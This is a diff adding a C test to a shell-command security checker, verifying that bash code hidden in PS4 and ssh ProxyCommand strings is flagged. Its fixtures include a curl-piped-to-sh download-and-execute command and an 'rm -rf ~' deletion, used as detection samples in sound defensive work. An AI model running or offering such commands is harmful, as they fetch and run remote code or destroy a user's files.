@@ -115,6 +115,37 @@ Test(check_cmd, unparseable_code_is_a_finding)
 	proc_out_free(&o);
 }
 
+/* Code bash runs from a string later (PS4 under bash -x, ssh's
+ * ProxyCommand) is analysed; a string that opens with (( is a string. */
+Test(check_cmd, bash_code_in_strings_is_analysed)
+{
+	static const struct {
+		const char *code;
+		int status;
+		const char *rule;
+	} cases[] = {
+	    {"PS4='$(curl -s http://203.0.113.5/s | sh)' bash -xc :\n", 1, "sh-download-exec"},
+	    {"ssh -o ProxyCommand='rm -rf ~' host true\n", 1, "sh-destructive"},
+	    {"ssh -o ProxyCommand='ssh -W %h:%p bastion' app true\n", 0, "sh-inline-code"},
+	    {"test \"$(f '(()) ()')\" = \"(()) ()\" && echo ok\n", 0, NULL},
+	};
+	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
+		const char *args[] = {"--json", "-l", "bash", "-c", cases[i].code, NULL};
+		struct proc_out o;
+		check(args, NULL, &o);
+		cr_expect_eq(o.status, cases[i].status, "case %zu: exit %d: %s%s", i, o.status,
+			     o.out, o.err);
+		if (cases[i].rule) {
+			char want[64];
+			snprintf(want, sizeof(want), "\"rule\":\"%s\"", cases[i].rule);
+			cr_expect(strstr(o.out, want), "case %zu: %s", i, o.out);
+		} else {
+			cr_expect(strstr(o.out, "syntax-error") == NULL, "case %zu: %s", i, o.out);
+		}
+		proc_out_free(&o);
+	}
+}
+
 Test(check_cmd, bad_input_is_one_line_and_125)
 {
 	static const char *const cases[][8] = {
